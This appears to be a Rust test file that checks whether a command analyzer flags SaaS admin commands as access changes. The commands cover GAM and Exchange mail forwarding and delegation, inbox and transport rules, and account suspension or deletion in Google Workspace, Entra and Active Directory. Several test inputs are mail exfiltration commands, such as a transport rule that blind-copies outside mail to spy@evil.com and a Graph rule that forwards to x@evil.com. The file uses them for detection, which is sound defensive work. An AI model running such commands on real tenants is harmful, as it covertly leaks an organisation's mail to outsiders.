//! SaaS tenant administration that changes access without naming a share:
//! mail forwarding and delegation (GAM, Exchange Online, Microsoft Graph
//! PowerShell), whose grantee is the recipient of the mailbox's mail, and
//! accounts suspended, disabled, deleted or re-enabled (GAM, Active
//! Directory, Entra, the CLI for Microsoft 365), which change their
//! owner's access with no outside grantee. Each case is a command line and
//! the access effects (`grant_access`, `make_public`) `analyze` reports.

use serde_json::json;

use crate::common;
use common::{access_table, grant_named, no_access_changes};

#[test]
fn gam_forwarding_and_delegation_grant_the_recipient() {
    access_table(&[
        (
            "gam user ana@q.com add forwardingaddress ana@gmail.com && gam user ana@q.com forward on ana@gmail.com keep",
            json!([
                grant_named("gmail mailbox ana@q.com", Some("ana@gmail.com")),
                grant_named("gmail mailbox ana@q.com", Some("ana@gmail.com"))
            ]),
        ),
        (
            "gam user ana@q.com forward true ana@gmail.com archive",
            json!([grant_named(
                "gmail mailbox ana@q.com",
                Some("ana@gmail.com")
            )]),
        ),
        // Turning forwarding off changes access too, naming no one.
        (
            "gam user ana@q.com forward off",
            json!([grant_named("gmail mailbox ana@q.com", None)]),
        ),
        (
            "gam user ana@q.com delete forwardingaddress ana@gmail.com",
            json!([grant_named(
                "gmail mailbox ana@q.com",
                Some("ana@gmail.com")
            )]),
        ),
        (
            "gam user ana@q.com delegate to user bob@x.com",
            json!([grant_named("gmail mailbox ana@q.com", Some("bob@x.com"))]),
        ),
        (
            "gam users a@q.com add delegates bob@x.com,eve@y.com",
            json!([
                grant_named("gmail mailbox a@q.com", Some("bob@x.com")),
                grant_named("gmail mailbox a@q.com", Some("eve@y.com"))
            ]),
        ),
        (
            "gam ou /Sales add delegate helpdesk@q.com",
            json!([grant_named("gmail mailbox /Sales", Some("helpdesk@q.com"))]),
        ),
        (
            "gam user a@q.com add sendas alias@q.com name Alias",
            json!([grant_named("gmail send-as alias@q.com of a@q.com", None)]),
        ),
    ]);
    no_access_changes(&[
        "gam all users print forwards enabledonly",
        "gam user a@q.com show delegates",
        "gam user a@q.com print forwardingaddresses",
        "gam report users parameters accounts:is_2sv_enrolled",
    ]);
}

#[test]
fn gam_account_lifecycle_changes_access() {
    let account = |user: &str| {
        json!([grant_named(
            &format!("google workspace account {user}"),
            None
        )])
    };
    access_table(&[
        ("gam update user t@q.com suspended on", account("t@q.com")),
        ("gam update user t@q.com suspended off", account("t@q.com")),
        ("gam update user t@q.com admin on", account("t@q.com")),
        ("gam delete user t@q.com", account("t@q.com")),
        ("gam undelete user t@q.com", account("t@q.com")),
        (
            "gam create user n@q.com firstname N lastname M",
            account("n@q.com"),
        ),
        ("gam suspend users t@q.com", account("t@q.com")),
        ("gam user t@q.com unsuspend", account("t@q.com")),
        ("gam user t@q.com signout", account("t@q.com")),
        ("gam user t@q.com deprovision", account("t@q.com")),
    ]);
    no_access_changes(&[
        "gam update user t@q.com firstname Tom",
        "gam info user t@q.com",
        "gam print users query isSuspended=true",
    ]);
}

#[test]
fn exchange_forwarding_grants_the_recipient() {
    access_table(&[
        (
            "pwsh -NoProfile -Command \"Set-Mailbox -Identity r@q.com -ForwardingSmtpAddress smtp:r@proton.me -DeliverToMailboxAndForward $true\"",
            json!([grant_named("exchange mailbox r@q.com", Some("r@proton.me"))]),
        ),
        (
            "pwsh -c 'Connect-ExchangeOnline -UserPrincipalName admin@q.com; Set-Mailbox r@q.com -ForwardingAddress ext-contact -DeliverToMailboxAndForward $false'",
            json!([grant_named("exchange mailbox r@q.com", Some("ext-contact"))]),
        ),
        // Cleared: a change with no grantee.
        (
            "pwsh -c 'Set-Mailbox r@q.com -ForwardingSmtpAddress $null'",
            json!([grant_named("exchange mailbox r@q.com", None)]),
        ),
        (
            "pwsh -c 'Set-Mailbox ceo@q.com -GrantSendOnBehalfTo @{Add=\"a@x.com\",\"b@y.com\"}'",
            json!([
                grant_named("exchange mailbox ceo@q.com", Some("a@x.com")),
                grant_named("exchange mailbox ceo@q.com", Some("b@y.com"))
            ]),
        ),
        (
            "pwsh -NoProfile -Command \"New-InboxRule -Mailbox billing@q.com -Name 'Invoices' -SubjectContainsWords 'Invoice' -ForwardTo ap@t.com\"",
            json!([grant_named(
                "exchange inbox rule billing@q.com",
                Some("ap@t.com")
            )]),
        ),
        (
            "pwsh -c 'New-InboxRule \"r1\" -Mailbox b@q.com -RedirectTo a@x.com, b@y.com -ForwardAsAttachmentTo c@z.com'",
            json!([
                grant_named("exchange inbox rule b@q.com", Some("a@x.com")),
                grant_named("exchange inbox rule b@q.com", Some("b@y.com")),
                grant_named("exchange inbox rule b@q.com", Some("c@z.com"))
            ]),
        ),
        (
            "pwsh -c 'New-TransportRule -Name cc -SentToScope NotInOrganization -BlindCopyTo spy@evil.com'",
            json!([grant_named(
                "exchange transport rule cc",
                Some("spy@evil.com")
            )]),
        ),
        (
            "pwsh -c 'Set-DistributionGroup sales@q.com -ManagedBy bob@x.com'",
            json!([grant_named("exchange group sales@q.com", Some("bob@x.com"))]),
        ),
        // Graph: the rule's forwarding actions, in a body built earlier.
        (
            "pwsh -c '$params = @{ displayName = \"fw\"; actions = @{ forwardTo = @( @{ emailAddress = @{ name = \"X\"; address = \"x@evil.com\" } } ) } }; New-MgUserMailFolderMessageRule -UserId u@q.com -MailFolderId inbox -BodyParameter $params'",
            json!([grant_named(
                "microsoft 365 mailbox u@q.com",
                Some("x@evil.com")
            )]),
        ),
        // Mailbox permissions were already access changes.
        (
            "pwsh -c 'Add-MailboxPermission -Identity cfo@q.com -User temp@x.com -AccessRights FullAccess'",
            json!([grant_named("exchange cfo@q.com", Some("temp@x.com"))]),
        ),
    ]);
    no_access_changes(&[
        "pwsh -c 'Set-Mailbox r@q.com -ProhibitSendQuota 5GB'",
        "pwsh -c 'Get-Mailbox r@q.com | Select ForwardingSmtpAddress'",
        "pwsh -c 'New-InboxRule -Mailbox b@q.com -Name Archive -MoveToFolder b@q.com:/Archive'",
        "pwsh -c '$p = @{ displayName = \"mv\"; actions = @{ moveToFolder = \"x\" } }; New-MgUserMailFolderMessageRule -UserId u@q.com -MailFolderId inbox -BodyParameter $p'",
    ]);
}

#[test]
fn directory_accounts_enabled_or_disabled_change_access() {
    access_table(&[
        (
            "pwsh -c 'Update-MgUser -UserId u@q.com -AccountEnabled:$false'",
            json!([grant_named("entra user u@q.com", None)]),
        ),
        (
            "pwsh -c 'Update-MgUser -UserId u@q.com -BodyParameter @{ accountEnabled = $true }'",
            json!([grant_named("entra user u@q.com", None)]),
        ),
        (
            "pwsh -c 'Revoke-MgUserSignInSession -UserId u@q.com'",
            json!([grant_named("entra user u@q.com", None)]),
        ),
        (
            "pwsh -c 'Remove-MgUser -UserId u@q.com'",
            json!([grant_named("entra user u@q.com", None)]),
        ),
        (
            "pwsh -c 'Set-MsolUser -UserPrincipalName u@q.com -BlockCredential $true'",
            json!([grant_named("entra user u@q.com", None)]),
        ),
        (
            "pwsh -c 'Disable-ADAccount -Identity jdoe'",
            json!([grant_named("active directory account jdoe", None)]),
        ),
        (
            "pwsh -c 'Enable-ADAccount jdoe'",
            json!([grant_named("active directory account jdoe", None)]),
        ),
        (
            "pwsh -c 'Set-ADUser jdoe -Enabled $false'",
            json!([grant_named("active directory account jdoe", None)]),
        ),
        (
            "pwsh -c 'Disable-LocalUser -Name guest'",
            json!([grant_named("local account guest", None)]),
        ),
        (
            "pwsh -c 'Set-Mailbox r@q.com -AccountDisabled $true'",
            json!([grant_named("exchange mailbox r@q.com", None)]),
        ),
        (
            "m365 entra user set --id u@q.com --accountEnabled false",
            json!([grant_named("entra user u@q.com", None)]),
        ),
        (
            "m365 entra user remove --userName u@q.com --force",
            json!([grant_named("entra user u@q.com", None)]),
        ),
    ]);
    no_access_changes(&[
        "pwsh -c 'Update-MgUser -UserId u@q.com -JobTitle Lead'",
        "pwsh -c 'Set-ADUser jdoe -Title Lead'",
        "pwsh -c 'Get-ADUser jdoe -Properties Enabled'",
        "m365 entra user set --id u@q.com --jobTitle Lead",
        "m365 entra user list",
    ]);
}
